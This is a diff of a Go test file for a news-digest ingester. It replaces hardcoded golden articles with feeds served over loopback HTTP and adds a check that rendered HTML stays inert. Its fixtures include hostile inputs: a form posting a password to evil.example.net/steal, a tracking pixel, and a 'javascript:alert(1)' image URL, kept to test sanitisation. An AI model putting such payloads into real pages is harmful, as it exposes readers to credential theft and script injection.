@@ -4,6 +4,8 @@ import (
 	"context"
 	"flag"
 	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
@@ -71,89 +73,31 @@ var hostileArticle = Article{
 		`<form action="https://evil.example.net/steal"><input name="password"></form><img src="https://tracker.example.net/open.gif?u=42" width="1" height="1">`,
 }
 
-// goldenArticles are the articles of testdata/feeds as the ingester keeps them: one per GUID
-// (the duplicates dropped), summaries as plain text, undated items dated when first seen.
-func goldenArticles() []Article {
-	firstSeen := ts("2026-11-21T06:00:00Z")
-	en := []Article{
-		{GUID: "https://news.example.com/en/2026/11/24/keep-your-terrorists-close",
-			Title:  "Keep your terrorists close: Why Russia treats some Islamic fundamentalists as friends and others as enemies",
-			Link:   "https://news.example.com/en/2026/11/24/keep-your-terrorists-close",
-			Author: "Editorial team", Section: "Analysis", PublishedAt: ts("2026-11-24T09:30:00Z"),
-			ImageURL: "https://news.example.com/images/2026/11/hezbollah-militants.jpg", ImageAlt: "Hezbollah militants exercising",
-			Summary: "Kremlin propagandist Margarita Simonyan has publicly endorsed the actions of a Russian security officer who cut off the ear of a detained suspect following the Mar. 22 Crocus City Hall terrorist attack outside of Moscow. “This isn't Norway,” she said while highlighting the fact that her country does not follow…"},
-		{GUID: "example-en-20261123-long-view",
-			Title:  "The long view: how a small regional newsroom kept publishing through three winters of blackouts, court cases, paper shortages and one stubborn printer",
-			Link:   "https://news.example.com/en/2026/11/23/the-long-view",
-			Author: "Anna Example", Section: "Media", PublishedAt: ts("2026-11-23T15:10:00Z"),
-			ImageURL: "https://news.example.com/images/2026/11/printing-press.jpg",
-			Summary:  "For three winters the paper came out on time, even when the lights did not. Reporters wrote by candlelight, editors carried USB sticks across the city, and the printer — a 1987 press nobody else could fix — kept rolling."},
-		{GUID: "example-en-20261122-prices", Title: "Prices & wages: why the “ruble” fell — again",
-			Link: "https://news.example.com/en/2026/11/22/prices-and-wages", Section: "Economy", PublishedAt: ts("2026-11-22T08:00:00Z"),
-			Summary: "Real wages fell for the fourth month in a row as the central bank struggled with inflation above 9%. Economists expect no relief before spring."},
-		{GUID: "example-en-20261122-key-rate", Title: "Breaking: Central bank raises key rate to 21% & signals more",
-			Link: "https://news.example.com/en/2026/11/22/key-rate", Section: "Economy", PublishedAt: ts("2026-11-22T12:45:00Z"),
-			Summary: "The decision surprised markets, which had priced in a pause."},
-		{GUID: "example-en-village-library", Title: "Volunteers rebuild a village library, book by book",
-			Link: "https://news.example.com/en/2026/11/21/village-library", Section: "Society", PublishedAt: firstSeen,
-			Summary: "The item carries no date at all: its published time falls back to when it was first seen."},
-		{GUID: "example-en-sanctions-tracker", Title: "Sanctions tracker: what changed this week",
-			Link: "https://news.example.com/en/2026/11/21/sanctions-tracker", Section: "Economy", PublishedAt: ts("2026-11-21T18:00:00Z"),
-			Summary: "Three new packages, two delistings and one court ruling."},
-		{GUID: "https://news.example.com/en/2026/11/19/banned-theatre", Title: "Inside the archive of a banned theatre",
-			Link: "https://news.example.com/en/2026/11/19/banned-theatre/", Section: "Culture", PublishedAt: ts("2026-11-19T11:20:00Z"),
-			Summary: "An item with no GUID: it is known by its link, with the tracking parameters and the fragment dropped."},
-		hostileArticle,
-		{GUID: "https://news.example.com/en/2026/11/23/arctic-shipping", Title: "Arctic shipping season runs three weeks longer than ever recorded",
-			Link: "https://news.example.com/en/2026/11/23/arctic-shipping", Author: "Ivan Example", Section: "Climate", PublishedAt: ts("2026-11-23T07:45:00Z"),
-			ImageURL: "https://news.example.com/images/2026/11/icebreaker.jpg",
-			Summary:  "Ships sailed the Northern Sea Route until late November this year, three weeks past the usual close of the season."},
-		{GUID: "example-en-20261122-fusion", Title: "Q&A: what the latest fusion record does (and doesn't) mean",
-			Link: "https://news.example.com/en/2026/11/22/fusion", Section: "Science", PublishedAt: ts("2026-11-22T13:00:00Z"),
-			Summary: "A physicist explains why a record run of 22 minutes matters more than the headlines about \"limitless energy\"."},
-		{GUID: "example-en-20261120-birds", Title: "Migrating birds change their route over the Baltic",
-			Link: "https://news.example.com/en/2026/11/20/birds", PublishedAt: ts("2026-11-20T10:00:00Z"), ImageURL: "javascript:alert(1)",
-			Summary: "Ornithologists counted fewer geese over the Curonian Spit this autumn. The birds appear to fly further inland."},
-	}
-	ru := []Article{
-		{GUID: "tag:news.example.com,2026:ru/2026-11-24/kreml-i-taliban",
-			Title: "Кремль и «Талибан»: почему Москва выбирает одних радикалов в союзники, а других — во враги",
-			Link:  "https://news.example.com/ru/2026/11/24/kreml-i-taliban", Author: "Редакция", Section: "Политика",
-			PublishedAt: ts("2026-11-24T08:00:00Z"), ImageURL: "https://news.example.com/images/2026/11/taliban-kabul.jpg",
-			Summary: "Российская пропаганда называет одни исламистские группировки «партнёрами», а другие — «террористами». Разбираемся, по какому принципу Кремль делит их на своих и чужих и что Москва получает от этой дружбы."},
-		{GUID: "tag:news.example.com,2026:ru/2026-11-23/dolgaya-doroga",
-			Title: "Долгая дорога домой: как жители прифронтовых сёл возвращаются в свои дома, восстанавливают школы и больницы и заново учатся жить рядом с войной сейчас",
-			Link:  "https://news.example.com/ru/2026/11/23/dolgaya-doroga", Author: "Мария Пример", Section: "Общество",
-			PublishedAt: ts("2026-11-23T06:15:00Z"), Summary: "Репортаж из трёх сёл, где люди возвращаются домой, несмотря ни на что."},
-		{GUID: "tag:news.example.com,2026:ru/2026-11-22/kurs-rublya", Title: "Срочно: курс рубля & нефть — что происходит на рынке",
-			Link: "https://news.example.com/ru/2026/11/22/kurs-rublya", Section: "Экономика", PublishedAt: ts("2026-11-22T13:40:00Z"),
-			Summary: "Доллар стоит 90,19 ₽, евро — 97,90 ₽. У этой записи есть только дата обновления: она и становится датой публикации."},
-		{GUID: "tag:news.example.com,2026:ru/vystavka-knig", Title: "Выставка запрещённых книг открылась в Риге",
-			Link: "https://news.example.com/ru/2026/11/21/vystavka-knig", Section: "Культура", PublishedAt: firstSeen,
-			Summary: "У этой записи нет ни даты публикации, ни даты обновления."},
-		{GUID: "tag:news.example.com,2026:ru/2026-11-20/sevmorput", Title: "Северный морской путь: лёд отступает, суда идут",
-			Link: "https://news.example.com/ru/2026/11/20/sevmorput", Author: "Иван Пример", Section: "Мир", PublishedAt: ts("2026-11-20T08:00:00Z"),
-			Summary: "Навигация по Северному морскому пути в этом году продлилась на три недели дольше обычного. Учёные связывают это с потеплением в Арктике."},
-		{GUID: "tag:news.example.com,2026:ru/2026-11-19/uchitelya", Title: "Учителя из Бурятии: «Мы учим детей думать»",
-			Link: "https://news.example.com/ru/2026/11/19/uchitelya", Section: "Общество", PublishedAt: ts("2026-11-19T11:00:00Z"),
-			Summary: "В сельской школе под Улан-Удэ — двенадцать учеников и три учителя."},
-	}
-	for i := range en {
-		en[i].Lang = "en"
-	}
-	for i := range ru {
-		ru[i].Lang = "ru"
-	}
-	return append(en, ru...)
-}
-
-// goldenIssues stores the fixture articles and assembles both languages at the fixed clock.
+// goldenIssues ingests testdata/feeds through the Ingester (served over loopback HTTP) at the
+// fixed clock, pins the sample article as an editor would, sets an editor's note on the English
+// issue and assembles both languages.
 func goldenIssues(t testing.TB, db *sqlx.DB) (*Store, map[string]int64) {
 	t.Helper()
 	ctx := context.Background()
 	s := NewStore(db, func() time.Time { return asmNow })
-	for _, a := range goldenArticles() {
-		asmInsert(t, db, a)
+	srv := httptest.NewServer(http.FileServer(http.Dir(filepath.Join("testdata", "feeds"))))
+	defer srv.Close()
+	feeds := []FeedConfig{
+		{Lang: "en", URL: srv.URL + "/en.rss.xml"},
+		{Lang: "en", URL: srv.URL + "/en.json-feed.json"},
+		{Lang: "ru", URL: srv.URL + "/ru.atom.xml"},
+	}
+	for _, res := range NewIngester(s, feeds, IngestOptions{BaseURL: "https://digest.example.com"}, nil, nil).PollAll(ctx) {
+		if res.Err != nil || res.New == 0 {
+			t.Fatalf("ingest %s: %d new, %v", res.URL, res.New, res.Err)
+		}
+	}
+	var sample int64
+	if err := db.GetContext(ctx, &sample, `SELECT id FROM articles WHERE link LIKE '%keep-your-terrorists-close'`); err != nil {
+		t.Fatalf("the sample article was not ingested: %v", err)
+	}
+	if _, err := db.ExecContext(ctx, `UPDATE articles SET pinned = true WHERE id = $1`, sample); err != nil {
+		t.Fatal(err)
 	}
 	ids := map[string]int64{}
 	for _, lang := range []string{"en", "ru"} {
@@ -187,6 +131,7 @@ func TestGolden(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
+			checkInert(t, out.HTML) // the feeds' hostile item included
 			for ext, got := range map[string]string{"html": out.HTML, "txt": "Subject: " + out.Subject + "\nPreheader: " + out.Preheader + "\n\n" + out.Text} {
 				path := filepath.Join("testdata", "golden", "digest."+tt.lang+"."+ext)
 				if *update {
